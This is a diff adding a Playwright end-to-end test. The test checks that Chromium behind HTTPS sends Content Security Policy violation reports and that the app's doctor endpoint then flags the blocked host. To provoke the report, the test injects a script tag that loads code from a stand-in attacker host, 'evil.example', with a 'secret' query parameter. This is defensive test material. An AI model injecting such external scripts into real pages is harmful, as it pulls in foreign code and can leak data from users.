@@ -1,0 +1,56 @@
+import { cpSync, existsSync, rmSync } from 'node:fs'
+import { join } from 'node:path'
+import { CERTIFICATE, toKeyHash } from '../../test/certificate.ts'
+import { openNetwork } from '../../test/network.ts'
+import { ADMIN, startProgram } from '../../test/program.ts'
+import { test as base, expect } from '../fixtures.ts'
+
+// Its own program and browser: only encrypted pages are reported of in the newer way, and not by the headless shell.
+const test = base.extend({ guard: ({ browserName: _ }, use) => use(undefined) })
+const { CHROMIUM_PATH = '/usr/bin/chromium' } = process.env
+const isWhole = existsSync(CHROMIUM_PATH) && !CHROMIUM_PATH.includes('headless-shell')
+
+test('behind https Chromium reports what the policy stopped, in its newer form', async ({ playwright }, { workerIndex }) => {
+  test.skip(!isWhole, 'There is only the headless shell of Chromium here, which sends no such reports')
+  // It starts a program and a browser of its own.
+  test.slow()
+  const folder = process.env.KARIGAR_E2E_FOLDER ?? ''
+  const dataDir = join(folder, `https-${workerIndex}`)
+  cpSync(join(folder, 'template'), dataDir, { recursive: true })
+  const program = await startProgram(dataDir, { SITE_URL: 'https://localhost', TRUST_PROXY: '1' })
+  const network = await openNetwork(program.url, CERTIFICATE)
+  const browser = await playwright.chromium.launch({
+    executablePath: CHROMIUM_PATH,
+    args: [
+      ...['--headless=new', '--no-sandbox', '--disable-gpu', '--short-reporting-delay'],
+      `--ignore-certificate-errors-spki-list=${toKeyHash(CERTIFICATE)}`,
+    ],
+  })
+  try {
+    const page = await browser.newPage()
+    await page.goto(network.url)
+    await page.evaluate(() => {
+      const script = document.createElement('script')
+      script.src = 'https://evil.example/x.js?secret=1'
+      document.body.append(script)
+    })
+    const answers: string[] = []
+    const isReported = () => {
+      answers.push(...network.takeAnswers())
+      return answers.includes('POST /api/public/csp-reports 204')
+    }
+    await expect.poll(isReported, { timeout: 20_000 }).toBe(true)
+    const headers = { 'Content-Type': 'application/json' }
+    const signIn = await fetch(`${program.url}/api/public/authenticate`, { method: 'POST', headers, body: JSON.stringify(ADMIN) })
+    const { token } = (await signIn.json()) as { token: string }
+    const asked = await fetch(`${program.url}/api/doctor?pace=quick`, { headers: { Authorization: `Bearer ${token}` } })
+    const { data } = (await asked.json()) as { data: { findings: { name: string; details: string[] }[] } }
+    const finding = data.findings.find(({ name }) => name === 'policy')
+    expect(finding).toMatchObject({ state: 'warning', details: ['evil.example (script-src-elem), 1 times'] })
+  } finally {
+    await browser.close()
+    network.close()
+    await program.stop()
+    rmSync(dataDir, { recursive: true, force: true })
+  }
+})
